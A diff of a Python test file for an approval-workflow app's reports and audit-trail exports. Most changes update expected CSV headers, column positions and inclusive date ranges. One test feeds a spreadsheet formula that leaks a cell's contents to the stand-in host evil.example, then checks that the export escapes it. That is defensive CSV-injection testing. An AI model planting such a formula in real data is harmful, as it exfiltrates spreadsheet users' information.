@@ -19,7 +19,7 @@ from approval.workflow import engine
 from approval.workflow.states import Action, Role, State
 
 T = lambda day, hour, minute=0: datetime(2026, 11, day, hour, minute, tzinfo=UTC)  # noqa: E731
-PERIOD = "from=2026-11-02&to=2026-11-16"
+PERIOD = "from=2026-11-02&to=2026-11-15"  # both days included
 SVG = "{http://www.w3.org/2000/svg}svg"
 
 
@@ -93,14 +93,21 @@ def test_the_numbers_match_the_ones_computed_by_hand(history, web):
     page = web.get(f"/reports?market=FR&{PERIOD}")
     assert page.status_code == 200
     weekly = _csv(web.get(f"/reports/weekly.csv?market=FR&{PERIOD}"))
-    assert weekly == [["week", "published", "rejected", "declined", "withdrawn", "days counted", "week over"],
-                      ["2026-11-02", "1", "1", "0", "0", "7", "yes"], ["2026-11-09", "1", "0", "0", "1", "7", "yes"]]
+    assert weekly == [["week", "published", "rejected", "declined by the cabinet", "withdrawn", "days counted",
+                       "status"],
+                      ["2026-11-02", "1", "1", "0", "0", "7", "over"], ["2026-11-09", "1", "0", "0", "1", "7", "over"]]
     durations = _csv(web.get(f"/reports/durations.csv?market=FR&{PERIOD}"))
     # In review: 1, 1, 2, 4, 8 hours; to publish: 3 h and 25 h 05.
-    assert durations[1:] == [["time in review", "5", "2.0", "8.0"], ["time to publish", "2", "14.04", "25.08"]]
+    assert durations[1:] == [["time in review", "5", "review stays ending in a decision", "2.0", "8.0"],
+                             ["time to publish", "2", "publications", "14.04", "25.08"]]
     rates = _csv(web.get(f"/reports/rates.csv?market=FR&{PERIOD}"))
+    # Two slots the publishing worker ended (one on time, one missed); one post published by hand.
     assert rates[1:] == [["approved", "3", "5", "60.0"], ["published on time", "1", "2", "50.0"],
-                         ["missed slots", "1", "2", "50.0"]]
+                         ["published late", "0", "2", "0.0"], ["missed slots", "1", "2", "50.0"],
+                         ["failed", "0", "2", "0.0"], ["unconfirmed", "0", "2", "0.0"],
+                         ["published by the publishing worker", "1", "2", "50.0"],
+                         ["marked as published by hand", "1", "2", "50.0"],
+                         ["confirmed as published after an unknown outcome", "0", "2", "0.0"]]
     svg = web.get(f"/reports/rates.svg?market=FR&{PERIOD}").get_data(as_text=True)
     labels = re.findall(r'<g class="guides">(?:<path[^>]*/>)?<text[^>]*>([^<]+)</text>', svg)
     assert {"approved", "published on time", "missed slots"} <= set(labels), labels  # each bar named on its axis
@@ -113,7 +120,7 @@ def test_the_numbers_match_the_ones_computed_by_hand(history, web):
     assert "60,0\u00a0%" in html and "14,0\u202fh / 25,1\u202fh" in html
     # A French spreadsheet: cells apart by semicolons, decimals with a comma, the words in French.
     durations = _csv(web.get(f"/reports/durations.csv?market=FR&{PERIOD}"), delimiter=";")
-    assert durations[1][1:] == ["5", "2,0", "8,0"] and durations[0][0] == "mesure"
+    assert durations[1][1] == "5" and durations[1][3:] == ["2,0", "8,0"] and durations[0][0] == "mesure"
 
 
 def test_durations_read_in_the_unit_that_suits_them(app):
@@ -265,10 +272,10 @@ def test_admins_filter_page_and_export_the_audit_trail(history, admin_web, db_se
     by_worker = admin_web.get("/reports/audit?market=FR&actor=worker").get_data(as_text=True)
     assert by_worker.count("<tr data-id=") == 3  # claim, publish, miss
     rows = _csv(admin_web.get(f"/reports/audit.csv?market=FR&actor={history['pm'].email}"))
-    assert rows[0][:5] == ["id", "at", "post_id", "market", "action"]
+    assert rows[0][:5] == ["#", "time (UTC)", "post", "market", "action"]
     assert [r[4] for r in rows[1:]] == ["mark_published", "approve", "schedule", "approve", "reject",
                                         "request_changes", "schedule", "approve"]
-    assert {r[7] for r in rows[1:]} == {history["pm"].email}
+    assert {r[8] for r in rows[1:]} == {history["pm"].email}
     total = db_session.scalar(select(func.count()).select_from(AuditEntry))
     seen, url = [], "/reports/audit"
     while url:
@@ -277,7 +284,7 @@ def test_admins_filter_page_and_export_the_audit_trail(history, admin_web, db_se
         url = body.split('class="next"')[0].rsplit('href="', 1)[1].split('"')[0].replace("&amp;", "&") \
             if 'class="next"' in body else None
     assert len(seen) == total and seen == sorted(seen, reverse=True)
-    window = _csv(admin_web.get("/reports/audit.csv?from=2026-11-04&to=2026-11-05"))
+    window = _csv(admin_web.get("/reports/audit.csv?from=2026-11-04&to=2026-11-04"))  # one day, included
     assert [r[4] for r in window[1:]] == ["reject", "submit"]
     assert admin_web.get("/reports/audit?action=explode").status_code == 400
     for before in ("abc", "²", "3000000000", "999999999999"):  # past a 32-bit id was a 500 on PostgreSQL
@@ -307,7 +314,7 @@ def test_the_audit_export_keeps_a_typed_formula_as_text(make, admin_web):
     post = make.post(State.draft, account=make.account(fr))
     make.act(post, Action.submit, post.created_by, comment='=HYPERLINK("http://evil.example/?"&A1,"Click")')
     rows = _csv(admin_web.get("/reports/audit.csv?market=FR"))
-    comments = [r[8] for r in rows[1:] if r[4] == "submit"]
+    comments = [r[9] for r in rows[1:] if r[4] == "submit"]
     assert comments == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
 
 
@@ -351,7 +358,7 @@ def test_reviews_of_a_few_seconds_read_in_seconds_and_export_in_hundredths_of_ho
     web.login(pm)
     assert "52 sec" in web.get(f"/reports?market=FR&{PERIOD}").get_data(as_text=True)
     durations = _csv(web.get(f"/reports/durations.csv?market=FR&{PERIOD}"))
-    assert durations[1] == ["time in review", "1", "0.01", "0.01"]
+    assert durations[1] == ["time in review", "1", "review stays ending in a decision", "0.01", "0.01"]
 
 
 def test_the_audit_export_streams_from_a_database_the_request_has_committed_to(backend, databases, monkeypatch):
